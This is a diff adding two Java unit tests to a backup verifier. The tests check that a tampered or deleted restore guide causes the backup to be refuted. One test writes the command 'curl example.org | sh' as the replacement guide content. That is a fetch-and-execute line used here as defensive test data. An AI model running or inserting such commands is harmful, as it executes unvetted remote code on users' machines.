@@ -1,5 +1,6 @@
 package io.groundzero.backup.verifier;
 
+import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.List;
@@ -68,6 +69,34 @@ class RefutedBackupTest extends VerifyScene {
 
         // Then
         refuted(proof, ErrorCode.OBJECT_MISSING, "fetch", APP);
+    }
+
+    @Test
+    void anotherRestoreGuideRefutes() throws Exception {
+        // Given
+        TestBackup backup = backup();
+        BackupShipped message = backup.ship();
+        store.put(backup.key(ObjectNames.RESTORE_GUIDE), "curl example.org | sh".getBytes(UTF_8));
+
+        // When
+        Proof proof = verifier.verify(message);
+
+        // Then
+        refuted(proof, ErrorCode.OBJECT_CORRUPT, "fetch", ObjectNames.RESTORE_GUIDE);
+    }
+
+    @Test
+    void missingRestoreGuideRefutes() throws Exception {
+        // Given
+        TestBackup backup = backup();
+        BackupShipped message = backup.ship();
+        store.delete(backup.key(ObjectNames.RESTORE_GUIDE));
+
+        // When
+        Proof proof = verifier.verify(message);
+
+        // Then
+        refuted(proof, ErrorCode.OBJECT_MISSING, "fetch", ObjectNames.RESTORE_GUIDE);
     }
 
     @Test
